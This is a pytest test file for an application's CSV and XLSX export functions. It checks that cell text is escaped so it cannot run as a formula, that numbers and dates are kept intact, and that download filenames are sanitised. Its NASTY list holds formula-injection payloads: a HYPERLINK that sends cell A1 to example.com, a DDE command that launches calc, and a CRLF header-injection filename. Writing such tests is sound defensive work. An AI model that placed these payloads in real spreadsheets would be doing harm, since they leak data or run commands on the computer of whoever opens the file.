"""Files for office programs: what somebody wrote stays a text."""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from api.exports import Sheet, as_csv, as_xlsx, handed_out, safe

NASTY = (
    '=HYPERLINK("http://example.com?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", '"=1+1',
    "＝1+1", "=cmd|' /C calc'!A0", "%0A=1", "|=1",
)  # fmt: skip
PLAIN = ("示例建材有限公司", "苏示罚〔2026〕1号", "2026-10", "a=b", "")


@pytest.mark.parametrize("text", NASTY)
def test_nothing_that_was_written_becomes_a_formula(text: str) -> None:
    """Protects who opens an export: a name that begins like a formula is shown, not carried out."""
    sheet = Sheet("一", [text], [[text, 1]])
    rows = list(csv.reader(io.StringIO(as_csv(sheet).decode("utf-8-sig"))))
    assert [row[0][0] for row in rows] == ["'", "'"]
    page = load_workbook(io.BytesIO(as_xlsx([sheet]))).worksheets[0]
    assert [cell.data_type for row in page.iter_rows(max_col=1) for cell in row] == ["s", "s"]
    assert page["A2"].quotePrefix


@pytest.mark.parametrize("text", PLAIN)
def test_plain_words_stay_as_they_are(text: str) -> None:
    """Protects readers from marks that nobody needs."""
    assert safe(text) == text


def test_numbers_and_days_can_be_counted_on() -> None:
    """Protects those who go on calculating: numbers are numbers, also below zero, and days are days."""
    sheet = Sheet("表/一", ["数", "日"], [[-3, dt.date(2026, 10, 1)], [None, "坏\x00\x0b字"]])
    assert as_csv(sheet).decode("utf-8-sig").splitlines() == ["数,日", "-3,2026-10-01", ",坏字"]
    page = load_workbook(io.BytesIO(as_xlsx([sheet]))).worksheets[0]
    assert (page.title, page["A2"].value, page["B3"].value) == ("表一", -3, "坏字")


def test_a_file_has_a_name_that_any_browser_reads() -> None:
    """Protects the header of the answer from what a name may hold."""
    answer = handed_out(b"x", "csv", '统计 2026\r\nx: y"')
    assert answer.headers["content-disposition"].startswith("attachment; filename*=UTF-8''%E7%BB%9F")
    assert "\r" not in answer.headers["content-disposition"]
    assert answer.headers["cache-control"] == "no-store"
